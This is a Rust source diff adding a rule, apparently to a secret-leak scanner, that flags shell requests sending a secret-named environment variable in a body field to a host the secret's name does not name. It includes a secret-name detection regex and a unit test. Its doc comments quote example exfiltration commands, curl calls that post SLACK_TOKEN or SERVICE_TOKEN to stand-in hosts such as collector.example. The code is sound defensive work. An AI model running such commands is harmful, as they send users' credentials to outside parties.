@@ -9,7 +9,10 @@
 //! row. Only the command that holds the key is read (`curl …slack.com… ;
 //! curl -d "$SLACK_TOKEN" https://other.host/` sends to the other host),
 //! and a route the URL does not name (`--proxy`, `HTTPS_PROXY=`,
-//! `--connect-to`: `urlhost::reroutes`) leaves no host to trust.
+//! `--connect-to`: `urlhost::reroutes`) leaves no host to trust. A secret
+//! whose owner the table does not know is its service's by its name's
+//! words (`PUSHOVER_TOKEN`): put in a request's body field and sent to a
+//! host none of those words names, it is handed to that host.
 
 use crate::hosts::{RELAYS, Service, key_owner};
 use crate::rules::Severity;
@@ -209,6 +212,92 @@ pub fn to_stranger(
     })
 }
 
+/// The words of a secret's name that say whose it is ("PUSHOVER" of
+/// `PUSHOVER_APP_TOKEN`): what is left once the words every secret's name
+/// may hold are dropped.
+fn owner_words(name: &str) -> impl Iterator<Item = String> + '_ {
+    const GENERIC: [&str; 20] = [
+        "token", "secret", "key", "api", "apikey", "password", "passwd", "access", "auth", "bot",
+        "app", "client", "private", "service", "user", "my", "refresh", "pat", "prod", "dev",
+    ];
+    name.split('_')
+        .map(str::to_ascii_lowercase)
+        .filter(|word| word.len() >= 3 && !GENERIC.contains(&word.as_str()))
+}
+
+/// Words of a request that logs in with a header.
+const AUTH_HEADERS: [&str; 5] = [
+    "Authorization",
+    "Bearer ",
+    "PRIVATE-TOKEN",
+    "X-Api-Key",
+    "x-api-key",
+];
+
+/// A secret-named environment variable's name, as `secret-field-elsewhere`
+/// spells it.
+static SECRET_NAME: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
+    regex::Regex::new(r"[A-Z0-9_]*(?:TOKEN|SECRET|API_?KEY|PASSWORD|PASSWD)\b")
+        .expect("the secret-name pattern compiles")
+});
+
+/// Keeps a request that puts a secret no vendor of `hosts::SERVICES` owns
+/// (`SERVICE_TOKEN`, `ACME_API_KEY`) in a named field of its body, on a
+/// command whose every literal host is real and named by none of the
+/// secret's own words (`Rule::confirm` of `secret-field-elsewhere`,
+/// wild73's `rdzehtsiar` env-exfiltration: `curl -X POST
+/// https://collector.example/upload -d "token=${SERVICE_TOKEN}"`). A
+/// service that takes its key in a form field is the one the key is
+/// named for (`PUSHOVER_TOKEN` to `api.pushover.net`); a known vendor's
+/// key is `vendor-key-elsewhere`'s, a blank or local host the user's.
+pub fn field_sent_elsewhere(
+    line: &str,
+    at: usize,
+    next: &dyn Fn(usize) -> Option<usize>,
+) -> Option<(Severity, String)> {
+    if !REQUEST_WORDS.iter().any(|w| line.contains(w)) {
+        return None;
+    }
+    std::iter::successors(Some(at), |&at| next(at + 1)).find_map(|at| {
+        let name = SECRET_NAME.find(line.get(at..)?)?.as_str();
+        // A workload's OIDC token is made to be shown to another party
+        // (a token broker), a webhook's secret to the user's endpoint.
+        if ["WEBHOOK", "OIDC"].iter().any(|w| name.contains(w)) || key_owner(name).is_some() {
+            return None;
+        }
+        let command = command_at(line, at);
+        // A request that logs in with a header is the API's own call,
+        // a secret in its body a value it stores (the twenty-first
+        // sweep's Bitbucket variable set to a rotated Azure secret).
+        if AUTH_HEADERS.iter().any(|h| command.contains(h)) {
+            return None;
+        }
+        if reroutes(command) {
+            return Some((
+                Severity::High,
+                format!("{name} goes through a rerouted request"),
+            ));
+        }
+        let urls = urls_for(line, command);
+        let named = |url: &String| {
+            let host = host_of(url);
+            owner_words(name).any(|word| host.contains(&word))
+        };
+        let foreign = !urls.is_empty()
+            && !urls.iter().any(|u| local_or_blank(host_of(u)))
+            && !urls
+                .iter()
+                .any(|u| RELAYS.iter().any(|r| on_domain(host_of(u), r)))
+            && !urls.iter().any(named);
+        foreign.then(|| {
+            (
+                Severity::High,
+                format!("{name} goes to {}", host_of(&urls[0])),
+            )
+        })
+    })
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -232,6 +321,17 @@ mod tests {
         let gitlab = key_owner("GITLAB_TOKEN").unwrap();
         assert!(owned_by("gitlab.corp.dev/api/v4", gitlab));
         assert!(!owned_by("gitlab-sync.corp.dev", gitlab));
+    }
+
+    #[test]
+    fn a_secret_is_its_own_services_by_the_words_of_its_name() {
+        let words: Vec<String> = owner_words("PUSHOVER_APP_TOKEN").collect();
+        assert_eq!(words, ["pushover"]);
+        assert_eq!(owner_words("SERVICE_TOKEN").count(), 0);
+        assert_eq!(
+            owner_words("ACME_NOTIFY_API_KEY").collect::<Vec<_>>(),
+            ["acme", "notify"]
+        );
     }
 
     #[test]
